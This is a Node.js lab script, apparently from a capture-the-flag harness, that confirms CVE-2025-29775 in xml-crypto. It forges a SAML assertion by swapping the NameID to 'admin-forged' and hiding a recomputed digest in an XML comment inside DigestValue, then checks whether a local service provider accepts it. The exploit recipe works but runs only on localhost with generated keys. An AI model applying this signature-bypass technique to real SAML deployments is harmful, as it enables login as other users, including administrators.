// node confirm.js (env MNCTF_LAB_INSTALL, RELEASE_DIR)
// CVE-2025-29775 (GHSA-x3m8-899r-f7c3): DigestValue written as <!--D_forged-->D_orig.
// 1) the fix commit's fixture, checked the README way (library level);
// 2) the same recipe on a fresh IdP-signed Response, through the README SP wrapper.
'use strict';
const fs = require('fs');
const path = require('path');
const g = require('./genlib');
const inst = (n) => require(require.resolve(n, { paths: [path.join(process.env.MNCTF_LAB_INSTALL, 'node_modules')] }));
const { SignedXml } = inst('xml-crypto');
const { DOMParser } = inst('@xmldom/xmldom');
const xpath = inst('xpath');
const { makeSp } = require(path.join(process.env.RELEASE_DIR, 'sp.js'));
let fooled = 0;

// 1) fixture
{
  const xml = fs.readFileSync(path.join(__dirname, 'fixtures/valid_saml_with_digest_comment.xml'), 'utf8');
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const assertion = xpath.select1("//*[local-name(.)='Assertion']", doc);
  const signature = xpath.select1("//*[local-name(.)='Signature' and namespace-uri(.)='http://www.w3.org/2000/09/xmldsig#']", assertion);
  const sig = new SignedXml({ publicCert: fs.readFileSync(path.join(__dirname, 'fixtures/feide_public.pem')) });
  let res;
  try {
    sig.loadSignature(signature);
    res = sig.checkSignature(xml);
    if (res) sig.validateElementAgainstReferences(assertion, doc);
  } catch (e) { res = 'threw: ' + e.message.slice(0, 100); }
  console.log(`  fixture valid_saml_with_digest_comment.xml: digestValue read=${sig.getReferences()[0] && sig.getReferences()[0].digestValue} checkSignature=${res}`);
  if (res === true) fooled++;
}

// 2) crafted through the wrapper
const port = 27003;
const idp = g.mkKeys('confirm-idp');
const idpEntity = 'http://127.0.0.1:18999/idp';
const idpMetadata = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="${idpEntity}"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>${idp.certB64}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="http://127.0.0.1:18999/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;
const sp = makeSp({ port, idpMetadata, spCert: g.mkKeys('confirm-sp').certPem, authnClass: 'urn:mnctf:ac:classes:jpki-user-authentication' });
const base = `http://127.0.0.1:${port}`;
const results = {};
for (const mode of ['control', 'attack']) {
  const irt = g.requestIdFromUrl(sp.authorizeUrl());
  const aId = g.rid();
  const xml = g.responseXml({ rId: g.rid(), idpEntity, acs: `${base}/acs`, irt,
    inner: g.assertionXml({ aId, idpEntity, nameID: 'alice', acs: `${base}/acs`, audience: `${base}/metadata`, irt }) });
  let msg = g.sign(xml, aId, { key: idp.key });
  if (mode === 'attack') {
    msg = msg.replace('>alice</saml:NameID>', '>admin-forged</saml:NameID>');
    const forged = g.digestOf(msg, aId);
    msg = msg.replace(/<ds:DigestValue>([^<]+)<\/ds:DigestValue>/, (_, orig) => `<ds:DigestValue><!--${forged}-->${orig}</ds:DigestValue>`);
  }
  try {
    results[mode] = sp.validate(Buffer.from(msg).toString('base64')).nameID;
    console.log(`  ${mode}: ACCEPTED, NameID=${results[mode]}`);
  } catch (e) { results[mode] = null; console.log(`  ${mode}: refused: ${e.message.slice(0, 140)}`); }
}
if (results.control !== 'alice') { console.log('  control refused: the result says nothing'); process.exit(2); }
if (results.attack === 'admin-forged') fooled++;
console.log(`  fooled in ${fooled} of 2 checks`);
process.exit(fooled === 2 ? 0 : fooled === 0 ? 1 : 3);
